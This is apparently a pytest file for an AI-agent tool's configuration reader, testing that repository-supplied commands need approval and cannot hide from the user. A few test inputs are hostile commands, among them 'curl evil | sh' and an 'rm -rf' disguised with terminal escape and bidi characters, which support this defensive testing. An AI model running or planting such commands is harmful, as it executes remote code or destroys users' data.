"""The two configuration files."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from actors.edges import configuration
from actors.edges.configuration import (
    REPOSITORY_FILE,
    AgentConfiguration,
    Allows,
    Configuration,
    RepositoryFile,
    escaped,
    nobody,
    read_configuration,
)
from actors.errors import UserError

BUILT_IN = ("claude", "codex")


def anybody(_file: RepositoryFile) -> bool:
    return True


def read(
    tmp_path: Path, user: str | None = None, repository: str | None = None, allows: Allows = anybody
) -> Configuration:
    home, repo = tmp_path / "home", tmp_path / "repo"
    (home / ".loop").mkdir(parents=True)
    repo.mkdir()
    if user is not None:
        (home / ".loop" / "config.toml").write_text(user)
    if repository is not None:
        (repo / ".loop.toml").write_text(repository)
    return read_configuration(home, repo, BUILT_IN, allows)


def test_without_files_nothing_is_configured(tmp_path: Path) -> None:
    assert read(tmp_path) == Configuration()
    assert read_configuration(tmp_path, None, BUILT_IN) == Configuration()


def test_an_agent_has_a_command_and_may_have_an_environment_and_a_peer(tmp_path: Path) -> None:
    found = read(
        tmp_path,
        """
        checks = ["make test", "ruff check"]
        [agents.Gemini]
        command = ["gemini", "--acp"]
        env = { GEMINI_MODEL = "flash", EMPTY = "" }
        peer = "Claude"
        [agents.goose-2]
        command = ["goose", "acp"]
        """,
    )
    assert found.checks == ("make test", "ruff check")
    assert found.agents == {
        "gemini": AgentConfiguration(
            command=("gemini", "--acp"), env={"GEMINI_MODEL": "flash", "EMPTY": ""}, peer="claude"
        ),
        "goose-2": AgentConfiguration(command=("goose", "acp")),
    }


def test_the_hint_at_newer_versions_is_the_users_to_switch_off(tmp_path: Path) -> None:
    assert read(tmp_path, "update_hint = false", 'checks = ["x"]').update_hint is False
    with pytest.raises(UserError, match=r"\.loop\.toml: update_hint = True: unknown key; known are agents, checks"):
        read(tmp_path / "other", None, "update_hint = true")
    with pytest.raises(UserError, match=r"config\.toml: update_hint = 'no': true or false is needed"):
        read(tmp_path / "third", 'update_hint = "no"')


MINE = 'checks = ["mine"]\n[agents.a]\ncommand = ["user-a"]\npeer = "b"\n[agents.b]\ncommand = ["user-b"]'
THEIRS = 'checks = ["mine", "theirs"]\n[agents.A]\ncommand = ["repo-a"]\nenv = { X = "1 2" }'
MY_AGENTS = {"a": AgentConfiguration(command=("user-a",), peer="b"), "b": AgentConfiguration(command=("user-b",))}
THEIR_AGENT = AgentConfiguration(command=("repo-a",), env={"X": "1 2"})


def test_what_the_repository_says_counts_when_it_is_allowed_and_the_users_checks_stay(tmp_path: Path) -> None:
    found = read(tmp_path, MINE, THEIRS)
    assert found.checks == ("mine", "theirs")
    assert found.agents == {**MY_AGENTS, "a": THEIR_AGENT}
    assert found.repository_agents == {"a": THEIR_AGENT}
    assert found.is_allowed


def test_what_the_repository_runs_does_not_count_until_somebody_allows_it(tmp_path: Path) -> None:
    found = read(tmp_path, MINE, THEIRS, nobody)
    assert (found.checks, found.agents, found.repository_agents) == (("mine",), MY_AGENTS, {})
    assert not found.is_allowed
    path = tmp_path / "repo" / REPOSITORY_FILE
    assert found.repository_file == RepositoryFile(
        path=path,
        sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
        runs=("check mine", "check theirs", "agent A: X='1 2' repo-a"),
    )


def test_no_repository_takes_the_users_checks_away(tmp_path: Path) -> None:
    found = read(tmp_path, MINE, "checks = []")
    assert (found.checks, found.repository_file) == (("mine",), None)


@pytest.mark.parametrize("text", ["", "checks = []", "[agents]", "# a word\n"])
def test_a_file_that_runs_nothing_needs_nobodys_leave(tmp_path: Path, text: str) -> None:
    asked: list[RepositoryFile] = []
    assert read(tmp_path, repository=text, allows=lambda file: bool(asked.append(file))) == Configuration()
    assert asked == []


def test_what_is_shown_and_judged_is_what_is_used_even_if_the_file_is_another_by_then(tmp_path: Path) -> None:
    def swap(file: RepositoryFile) -> bool:
        file.path.write_text('checks = ["curl evil | sh"]')
        return file.runs == ("check make test",)

    assert read(tmp_path, repository='checks = ["make test"]', allows=swap).checks == ("make test",)


def test_a_link_stands_for_what_it_leads_to(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text('checks = ["make test"]')
    (tmp_path / REPOSITORY_FILE).symlink_to("elsewhere")
    file = read_configuration(tmp_path, tmp_path, BUILT_IN).repository_file
    assert file is not None
    assert file.sha256 == hashlib.sha256(b'checks = ["make test"]').hexdigest()


def test_every_key_of_a_repository_says_what_it_runs_or_is_the_users_alone() -> None:
    assert {name for name, key in configuration._KEYS.items() if key.runs is None} == {"update_hint"}


def test_a_command_cannot_hide_from_the_person_who_is_asked(tmp_path: Path) -> None:
    found = read(tmp_path, repository=r'checks = ["true\n\u001b[2Krm -rf \u202e~\u200b é"]')
    assert found.repository_file is not None
    assert found.repository_file.runs == (r"check true\n\x1b[2Krm -rf \u202e~\u200b é",)
    assert escaped("\udc80") == r"\udc80"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("checks = [", "not a TOML file: "),
        ("check = ['x']", "check = ['x']: unknown key; known are agents, checks"),
        ("checks = 'make'", "checks = 'make': an array of strings is needed"),
        ("checks = ['make', 3]", "checks[1] = 3: a string that is not blank is needed"),
        ("checks = [' ']", "checks[0] = ' ': a string that is not blank is needed"),
        ("agents = 3", "agents = 3: a table is needed: [agents]"),
        ("[agents]\nx = 'y'", "agents.x = 'y': a table is needed: [agents.x]"),
        ("[agents.x]", 'agents.x: has no command; add e.g. command = ["x", "--acp"]'),
        ("[agents.x]\ncommand = 'x --acp'", "agents.x.command = 'x --acp': an array of strings is needed"),
        ("[agents.x]\ncommand = []", "agents.x.command = []: give the program and its arguments"),
        (
            "[agents.x]\ncommand = ['x']\ncolour = 'y'",
            "agents.x.colour = 'y': unknown key; known are command, env, peer",
        ),
        ("[agents.x]\ncommand = ['x']\nenv = ['y']", "agents.x.env = ['y']: a table is needed: [agents.x.env]"),
        ("[agents.x]\ncommand = ['x']\nenv = {A = 1}", "agents.x.env.A = 1: a string is needed"),
        ("[agents.x]\ncommand = ['x']\npeer = 1", "agents.x.peer = 1: a string that is not blank is needed"),
        ("[agents.x]\ncommand = ['x']\npeer = 'Z'", "agents.x.peer = 'z': unknown agent; known are claude, codex, x"),
        (
            "[agents.Codex]\ncommand = ['x']",
            "agents.Codex.command = ['x']: this agent is built in: leave it out, or rename it",
        ),
        ("[agents.-x]\ncommand = ['x']", "agents.-x = '-x': a name is letters, digits, - and _, beginning with"),
        ("[agents.x]\ncommand = ['x']\n[agents.X]\ncommand = ['y']", "another agent has this name in other letters"),
    ],
)
def test_whatever_it_does_not_know_is_refused_with_file_key_and_value(tmp_path: Path, text: str, problem: str) -> None:
    with pytest.raises(UserError) as caught:
        read(tmp_path, repository=text)
    assert str(caught.value).startswith(f"{tmp_path / 'repo' / '.loop.toml'}: ")
    assert problem in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_file_that_cannot_be_read_is_named(tmp_path: Path) -> None:
    (tmp_path / ".loop").mkdir()
    (tmp_path / ".loop" / "config.toml").write_bytes(b"\xff\xfe")
    with pytest.raises(UserError, match=r"config\.toml: cannot be read: "):
        read_configuration(tmp_path, None, BUILT_IN)


@pytest.mark.parametrize(
    ("table", "line"),
    [
        ('env = { "A=B" = "x" }', "a variable's name is not empty and has no '='"),
        ('env = { "" = "x" }', "a variable's name is not empty and has no '='"),
        ('env = { A = "x\\u0000y" }', "agents.x.env.A has a NUL character"),
        ('env = { "A\\u0000" = "x" }', "has a NUL character"),
        ('env = { A = "' + "x" * 100_001 + '" }', "agents.x.env.A has 100,001 bytes"),
        ('peer = "a\\u0000"', "agents.x.peer has a NUL character"),
    ],
)
def test_what_no_program_can_be_started_with_is_refused(tmp_path: Path, table: str, line: str) -> None:
    with pytest.raises(UserError) as refusal:
        read(tmp_path, repository=f'[agents.x]\ncommand = ["x"]\n{table}\n')
    assert line in str(refusal.value)
    assert ".loop.toml" in str(refusal.value)
    assert len(str(refusal.value)) < 400


@pytest.mark.parametrize("content", ["x = " + "[" * 50_000, "x = " + "9" * 5_000])
def test_a_document_that_python_cannot_read_is_no_toml(tmp_path: Path, content: str) -> None:
    with pytest.raises(UserError, match=r"\.loop\.toml: not a TOML file"):
        read(tmp_path, repository=content)


def test_a_byte_order_mark_is_accepted(tmp_path: Path) -> None:
    assert read(tmp_path, repository='\ufeffchecks = ["make"]\n').checks == ("make",)


def test_a_link_to_an_endless_device_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".loop.toml").symlink_to("/dev/zero")
    with pytest.raises(UserError, match=r"\.loop\.toml: cannot be read: it is a device"):
        read_configuration(tmp_path / "home", tmp_path, BUILT_IN)


def test_a_configuration_that_others_could_write_is_not_read(tmp_path: Path) -> None:
    (tmp_path / ".loop").mkdir()
    (tmp_path / ".loop").chmod(0o777)
    with pytest.raises(UserError, match="others can write to it"):
        read_configuration(tmp_path, None, BUILT_IN)


def test_a_built_in_agent_can_have_a_peer_a_model_an_effort_and_an_environment(tmp_path: Path) -> None:
    user = """
        [agents.gemini]
        command = ["gemini", "--acp"]
        mode = "yolo"
        [agents.Claude]
        peer = "gemini"
        model = "opus"
        effort = "max"
        env = { A = "1" }
    """
    agents = read(tmp_path, user=user).agents
    assert agents["claude"] == AgentConfiguration(peer="gemini", model="opus", effort="max", env={"A": "1"})
    assert agents["gemini"].mode == "yolo"


def test_what_a_repository_says_of_a_built_in_agent_is_shown_before_it_counts(tmp_path: Path) -> None:
    text = "[agents.claude]\nenv = { ANTHROPIC_BASE_URL = 'http://elsewhere' }\nmodel = 'x'"
    file = read(tmp_path, repository=text).repository_file
    assert file is not None
    assert file.runs == ("agent claude: ANTHROPIC_BASE_URL=http://elsewhere, model x",)
